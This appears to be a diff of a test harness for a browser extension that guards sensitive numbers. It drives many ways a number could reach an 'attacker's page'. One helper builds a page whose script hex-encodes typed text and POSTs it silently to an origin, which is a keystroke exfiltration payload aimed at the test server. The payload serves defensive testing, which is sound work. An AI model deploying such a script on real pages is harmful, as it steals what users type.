@@ -1,8 +1,14 @@
 /** How a number comes to the attacker's page. Real input wherever the browser can be driven to it. */
-import type { CDPSession, Page } from 'puppeteer-core'
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { pathToFileURL } from 'node:url'
+import type { CDPSession, ElementHandle, Page } from 'puppeteer-core'
 import { type Driven, type DrivenPage, until } from '../driver/index.ts'
+import * as F from '../flow.ts'
 
 export interface At {
+  readonly c: F.Counter
   readonly d: Driven
   readonly page: DrivenPage
   readonly p: Page
@@ -24,10 +30,12 @@ const typeInto =
 const pasteInto =
   (selector: string, spell: (n: string) => string = (n) => n) =>
   async ({ p, page, number }: At): Promise<void> => {
-    await page.engine.setClipboard(spell(number))
-    await page.bringToFront()
-    await p.focus(selector)
-    await page.engine.chord(p, 'v')
+    await withClipboard(async () => {
+      await page.engine.setClipboard(spell(number))
+      await page.bringToFront()
+      await p.focus(selector)
+      await page.engine.chord(p, 'v')
+    })
   }
 /** Types into the stage's own field, wherever it stands. */
 const typeInside = async ({ p, number }: At): Promise<void> => {
@@ -49,6 +57,32 @@ const script =
   async ({ p, number }: At): Promise<void> => {
     await p.evaluate(act as (n: string) => void, number)
   }
+/** A page that sends by itself, as hex, what stands in its one field. */
+const senderPage = (origin: string): string =>
+  `<!doctype html><meta charset="utf-8"><input id="text"><button id="send"></button><script>document.getElementById('text').addEventListener('keyup',e=>{if(e.target.value.length>7)fetch('${origin}/x/top',{method:'POST',mode:'no-cors',body:[...e.target.value].map(c=>c.charCodeAt(0).toString(16)).join('')})})</script>`
+
+/** A file for the time of one act. */
+async function withFile<T>(name: string, text: string, act: (path: string) => Promise<T>): Promise<T> {
+  const folder = mkdtempSync(join(tmpdir(), 'countersign-way-'))
+  try {
+    writeFileSync(join(folder, name), text)
+    return await act(join(folder, name))
+  } finally {
+    rmSync(folder, { recursive: true, force: true })
+  }
+}
+
+/** The clipboard is one for all tabs, and so is the tab in front. */
+let clipboard: Promise<unknown> = Promise.resolve()
+const withClipboard = <T>(act: () => Promise<T>): Promise<T> => {
+  const mine = clipboard.then(act, act)
+  clipboard = mine.catch(() => undefined)
+  return mine
+}
+
+/** How long the background hangs in the ways that say so. */
+export const HANGS = 3_000
+
 const client = (p: Page): CDPSession => (p.mainFrame() as unknown as { client: CDPSession }).client
 
 declare const register: () => Promise<void>
@@ -58,6 +92,7 @@ export const entries: Readonly<Record<string, (at: At) => Promise<void>>> = {
   held: script((n) => {
     state.held = n
   }),
+  nothing: async () => undefined,
   'type-text': typeInto('#text'),
   'type-tel': typeInto('#tel'),
   'type-number': typeInto('#number'),
@@ -142,14 +177,122 @@ export const entries: Readonly<Record<string, (at: At) => Promise<void>>> = {
     await typeInto('#text')(at)
   },
   'type-blob-top': async (at) => {
-    await at.p.evaluate((origin) => {
-      const page = `<input id="text"><button id="send"></button><script>document.getElementById('text').addEventListener('keyup',e=>{if(e.target.value.length>7)fetch('${origin}/x/top',{method:'POST',mode:'no-cors',body:[...e.target.value].map(c=>c.charCodeAt(0).toString(16)).join('')})})</script>`
-      location.href = URL.createObjectURL(new Blob([page], { type: 'text/html' }))
-    }, at.origin)
+    await at.p.evaluate((text) => {
+      location.href = URL.createObjectURL(new Blob([text], { type: 'text/html' }))
+    }, senderPage(at.origin))
     await until('the page of the blob', () => at.p.evaluate(() => location.protocol === 'blob:'))
     await at.p.waitForSelector('#text')
     await typeInto('#text')(at)
   },
+  // Chromium reads such a page only where a person has ticked it; a company forbids them (docs/policy.md).
+  'type-file': (at) =>
+    withFile('note.html', senderPage(at.origin), async (path) => {
+      await at.page.goto(pathToFileURL(path).href)
+      await at.p.waitForSelector('#text', { timeout: 3_000 })
+      await typeInto('#text')(at)
+      await new Promise((done) => setTimeout(done, 200))
+    }),
+  // A window of its own, opened by the page.
+  'type-popup': async (at) => {
+    const url = `${at.origin}/?exit=${exitOf(at)}&popup=1`
+    const [popup] = await Promise.all([
+      new Promise<Page | null>((done) => at.p.once('popup', done)),
+      at.p.evaluate((to) => void open(to, '', 'popup,width=500,height=400'), url),
+    ])
+    if (!popup) throw new Error('no window')
+    try {
+      const there = { ...at, p: popup }
+      await ready(there)
+      await typeInto('#text')(there)
+      await popup.evaluate(() => document.getElementById('send')?.click())
+      await new Promise((done) => setTimeout(done, 300))
+    } finally {
+      await popup.close().catch(() => undefined)
+    }
+  },
+  // The page itself opens a blank window and reads what is typed into it.
+  'type-popup-blank': async (at) => {
+    const popup = await blankPopup(at)
+    await (await popup?.waitForSelector('#inner'))?.focus()
+    await popup?.keyboard.type(at.number)
+  },
+  // The background's thread is busy: what is known in the page has to do.
+  'type-background-hung': async (at) => {
+    await at.d.hangWorker(HANGS)
+    await typeInto('#text')(at)
+  },
+  'type-background-hung-reload': async (at) => {
+    await at.d.hangWorker(HANGS)
+    await at.page.reload()
+    await ready(at)
+    await typeInto('#text')(at)
+  },
+  'held-background-hung': async (at) => {
+    await at.d.hangWorker(HANGS)
+    await entries['held']?.(at)
+  },
+  'held-worker-stopped': async (at) => {
+    await at.d.stopWorker()
+    await entries['held']?.(at)
+  },
+  // The log, the numbers, the policy: away, while the browser runs; and with the background ended as well.
+  'type-database-gone': async (at) => {
+    await loseDatabase(at)
+    await typeInto('#text')(at)
+  },
+  'type-database-gone-restarted': async (at) => {
+    await loseDatabase(at)
+    await at.d.stopWorker()
+    await at.page.reload()
+    await ready(at)
+    await new Promise((done) => setTimeout(done, 500))
+    await typeInto('#text')(at)
+  },
+  'type-after-update': async (at) => {
+    await at.d.updateExtension()
+    await typeInto('#text')(at)
+  },
+  // A page from before the update, a number from after it.
+  'type-after-update-new': async (at) => {
+    await at.d.updateExtension()
+    const portal = await F.activate(at.c, { number: at.number, ticks: [] })
+    await at.page.bringToFront()
+    await typeInto('#text')(at)
+    await portal.close()
+  },
+  // The whole browser, started anew on its profile: the settings that an administrator gives come seconds late.
+  'type-after-restart': typeInto('#text'),
+  // Begun before anybody knew the number, ended after.
+  'typed-before': async () => undefined,
+  'bfcache-before': async (at) => {
+    // The page comes back as it was, marks of the driver and all.
+    await at.p.evaluate(() => void setTimeout(() => history.back()))
+    await until('the page to come back', () => at.p.evaluate(() => location.pathname === '/back'))
+    await ready(at)
+    // No hand is faster.
+    await new Promise((done) => setTimeout(done, 300))
+  },
+  'password-manager': async (at) => {
+    await at.d.saveLogIn(at.origin, at.number)
+    await at.page.reload()
+    await ready(at)
+    // Stopped, it is never filled.
+    await until(
+      'the fill',
+      () => at.p.evaluate(() => document.querySelector<HTMLInputElement>('#user')?.value),
+      {
+        timeout: 1_500,
+      },
+    ).catch(() => undefined)
+  },
+  'upload-file': (at) =>
+    withFile('note.txt', `tel ${at.number}`, async (path) => {
+      const field = (await at.p.$('#file')) as ElementHandle<HTMLInputElement>
+      await field.uploadFile(path)
+      await new Promise((done) => setTimeout(done, 100))
+      await at.p.click('#go')
+      await new Promise((done) => setTimeout(done, 300))
+    }),
   'paste-text': pasteInto('#text'),
   'paste-area': pasteInto('#area', (n) => `客户电话：${n}，谢谢`),
   'paste-dashes': pasteInto('#tel', (n) => n.replace(/(\d{3})(\d{4})(\d{4})/, '$1-$2-$3')),
@@ -222,10 +365,12 @@ export const entries: Readonly<Record<string, (at: At) => Promise<void>>> = {
   },
   'clipboard-read': async ({ p, page, number, origin }) => {
     await p.browserContext().overridePermissions(origin, ['clipboard-read'])
-    await page.engine.setClipboard(number)
-    await page.bringToFront()
-    await p.evaluate(async () => {
-      state.held = await navigator.clipboard.readText()
+    await withClipboard(async () => {
+      await page.engine.setClipboard(number)
+      await page.bringToFront()
+      await p.evaluate(async () => {
+        state.held = await navigator.clipboard.readText()
+      })
     })
   },
   'address-query': async (at) => {
@@ -269,6 +414,38 @@ export const entries: Readonly<Record<string, (at: At) => Promise<void>>> = {
     for (const type of ['dragEnter', 'dragOver', 'drop'] as const)
       await client(p).send('Input.dispatchDragEvent', { type, ...at })
   },
+}
+
+/** What stands in a page before the number is known, or guarded. */
+export const prepares: Readonly<Record<string, (at: At) => Promise<void>>> = {
+  'typed-before': typeInto('#text'),
+  'bfcache-before': async (at) => {
+    await at.page.goto(`${at.origin}/back?exit=${exitOf(at)}`)
+    await ready(at)
+    await typeInto('#text')(at)
+    await at.page.goto(`${at.origin}/x/away`)
+  },
+}
+
+async function blankPopup({ p }: At): Promise<Page | null> {
+  const [popup] = await Promise.all([
+    new Promise<Page | null>((done) => p.once('popup', done)),
+    p.evaluate(() => (state as unknown as { popup(): void }).popup()),
+  ])
+  return popup
+}
+
+/** Deletes the extension's database from one of its own pages, as somebody at the disk would. */
+async function loseDatabase({ d }: At): Promise<void> {
+  const page = await d.newPage(d.extensionUrl('popup.html'))
+  await page.evaluate(
+    () =>
+      new Promise<void>((done) => {
+        const gone = indexedDB.deleteDatabase('countersign')
+        for (const type of ['success', 'error', 'blocked']) gone.addEventListener(type, () => done())
+      }),
+  )
+  await page.close()
 }
 
 const exitOf = (at: At): string => new URL(at.p.url()).searchParams.get('exit') ?? ''
